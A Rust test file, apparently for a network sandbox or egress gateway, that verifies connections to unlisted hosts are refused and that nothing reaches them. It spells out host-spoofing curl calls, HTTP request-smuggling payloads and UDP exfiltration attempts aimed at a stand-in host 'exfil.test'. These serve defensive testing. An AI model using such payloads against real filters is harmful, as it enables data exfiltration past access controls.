//! What is refused, and that nothing of it was sent.

use std::sync::atomic::Ordering;

use super::harness::Tested;
use super::programs::needs;
use super::world::{Means, World};
use super::zone::{METADATA, OWN, REBINDING, WEB};

/// A program asks a listed host for another one: in the handshake of TLS, or in a request.
pub(crate) fn other_names(world: &World, means: Means) -> Tested {
    needs("curl")?;
    let trust = world.path("ca.pem");
    let trust = trust.to_str().expect("a path in UTF-8");
    let curl = |words: &[&str]| {
        let options = ["curl", "-sS", "--max-time", "20", "--cacert", trust];
        let rules = ["web.test", "other.test"];
        world.run(means, &rules, &[&options, words].concat())
    };
    // The same by the right name comes through.
    let right = curl(&["--connect-to", "other.test:443:other.test:443", "https://other.test/"]);
    assert_eq!((right.code, right.text()), (Some(0), "other.test /"), "{}", right.stderr);
    let named = ["unlisted.test", "sni-exfil.unlisted.test", "other.test"];
    for name in named {
        let (to, url) = (format!("{name}:443:web.test:443"), format!("https://{name}/"));
        let head = format!("Host: {name}");
        for words in [["--connect-to", &to, &url], ["-H", &head, "http://web.test/"]] {
            let refused = curl(&words);
            // Sending, receiving, or the handshake.
            assert!(matches!(refused.code, Some(35 | 55 | 56)), "{words:?}: {}", refused.stderr);
            let is_reset = ["reset by peer", "Broken pipe"].map(|it| refused.stderr.contains(it));
            assert!(is_reset.contains(&true), "{words:?}: {}", refused.stderr);
        }
    }
    Ok(())
}

/// Requests that a server may understand otherwise than the gateway. An underscore is a space.
#[rustfmt::skip]
const HIDDEN: &[(&str, &str)] = &[
    ("absolute form", r"GET_http://exfil.test/_HTTP/1.1\r\nHost:_web.test\r\n\r\n"),
    ("a tunnel", r"CONNECT_exfil.test:443_HTTP/1.1\r\nHost:_web.test\r\n\r\n"),
    ("two hosts", r"GET_/_HTTP/1.1\r\nHost:_web.test\r\nHost:_exfil.test\r\n\r\n"),
    ("two hosts, the other first", r"GET_/_HTTP/1.1\r\nHost:_exfil.test\r\nHost:_web.test\r\n\r\n"),
    ("an empty line first", r"\r\nGET_/_HTTP/1.1\r\nHost:_exfil.test\r\n\r\n"),
    ("bare line feeds", r"GET_/_HTTP/1.1\nHost:_exfil.test\n\n"),
    ("a method of its own", r"FETCH_/_HTTP/1.1\r\nHost:_exfil.test\r\n\r\n"),
    ("a small method", r"get_/_HTTP/1.1\r\nHost:_exfil.test\r\n\r\n"),
    ("a space before the colon", r"GET_/_HTTP/1.1\r\nHost_:_exfil.test\r\n\r\n"),
    ("a folded line", r"GET_/_HTTP/1.1\r\nHost:\r\n_exfil.test\r\n\r\n"),
    ("a user in it", r"GET_/_HTTP/1.1\r\nHost:_web.test@exfil.test\r\n\r\n"),
    ("a zero in it", r"GET_/_HTTP/1.1\r\nHost:_web.test\0.exfil.test\r\n\r\n"),
    ("tabs", r"GET\t/\tHTTP/1.1\r\nHost:\texfil.test\r\n\r\n"),
    ("no version", r"GET_http://exfil.test/\r\n\r\n"),
    ("HTTP/2 at once", r"PRI_*_HTTP/2.0\r\n\r\nSM\r\n\r\nexfil.test"),
];

/// Behind a first request that is right: what hides in the second, or in the length of the first.
#[rustfmt::skip]
const BEHIND: &[(&str, &str)] = &[
    ("a second request", r"GET_/_HTTP/1.1\r\nHost:_exfil.test\r\n\r\n"),
    ("a second one with an empty line first", r"\r\nGET_/_HTTP/1.1\r\nHost:_exfil.test\r\n\r\n"),
    ("a second one in absolute form", r"GET_http://exfil.test/_HTTP/1.1\r\nHost:_web.test\r\n\r\n"),
];

pub(crate) fn hidden_hosts(world: &World, means: Means) -> Tested {
    let first = r"GET_/_HTTP/1.1\r\nHost:_web.test\r\n\r\n";
    let behind = BEHIND.iter().map(|(what, text)| (*what, format!("{first}{text}")));
    let alone = HIDDEN.iter().map(|(what, text)| (*what, (*text).to_owned()));
    let both = alone.chain(behind).flat_map(|(what, text)| {
        ["whole", "slowly"]
            .map(|pace| (format!("{what}, {pace}"), format!("say web.test {pace} {text}")))
    });
    let (what, orders): (Vec<_>, Vec<_>) = both.unzip();
    let orders: Vec<&str> = orders.iter().map(String::as_str).collect();
    let rules = ["web.test", "other.test"];
    // What is right is answered, at either pace.
    let right = ["whole", "slowly"].map(|pace| format!("say web.test {pace} {first}"));
    let right = right.each_ref().map(String::as_str);
    assert_eq!(world.inside(means, &rules, &right), ["web.test /"; 2]);
    let told = world.inside(means, &rules, &orders);
    assert_eq!(told.len(), what.len(), "{told:?}");
    // The first request may be answered before the second one is read.
    let clear = ["reset", "web.test /"];
    let wrong: Vec<_> = what.iter().zip(&told).filter(|(_, it)| !clear.contains(&&***it)).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    let answered = what.iter().zip(&told).filter(|(_, it)| *it == "web.test /");
    let answered: Vec<_> = answered.filter(|(what, _)| !what.contains("second")).collect();
    assert!(answered.is_empty(), "{answered:#?}");
    Ok(())
}

/// QUIC is one of them: the port is listed for TCP alone.
pub(crate) fn datagrams(world: &World, means: Means) -> Tested {
    let rules = ["web.test", "echo.test:7/udp"];
    let orders = [
        "udp web.test 443 exfil-quic",
        "udp echo.test 9 exfil-port",
        "udp 1.2.3.4 7 exfil-address",
        "udp 9.9.9.9 53 exfil-dns",
        "udp exfil-udp.unlisted.test 7 x",
    ];
    let expected = ["refused", "refused", "access", "access", "name"];
    assert_eq!(world.inside(means, &rules, &orders), expected);
    assert_eq!(world.seen.quic.load(Ordering::SeqCst), 0);
    Ok(())
}

/// The last test: what all others tried to get out is in no packet, and nobody was asked for it.
pub(crate) fn nothing_was_sent(world: &World) -> Tested {
    let (sent, asked) = (world.capture.destinations(), world.asked.names());
    // The capture sees what is sent: what is allowed is in it.
    assert!(world.capture.mentions("web"), "nothing is seen");
    assert!(sent.contains(&WEB), "{sent:?}");
    assert!(asked.iter().any(|name| name == "web.test"), "{asked:?}");
    assert_eq!(world.capture.lost(), 0, "packets that were not captured");
    for label in ["exfil", "unlisted", "secret"] {
        assert!(!world.capture.mentions(label), "{label} was sent");
    }
    let allowed = |name: &String| name != "wild.test" && !name.contains("unlisted");
    assert!(asked.iter().all(allowed), "{asked:?}");
    let literals = ["1.2.3.4", "2a00:bad::1"].map(|text| text.parse().expect("an address"));
    // Answers go to the launcher's own address, and what is sent to it stays on the host.
    let rebound = REBINDING.iter().map(|(_, address)| address.to_canonical());
    let rebound = rebound.filter(|it| *it != OWN && *it != super::zone::OWN_V6);
    for address in rebound.chain(literals).chain([METADATA]) {
        assert!(!sent.contains(&address), "something was sent to {address}");
    }
    assert_eq!(world.at_home.load(Ordering::SeqCst), 0, "the launcher's own host was reached");
    Ok(())
}
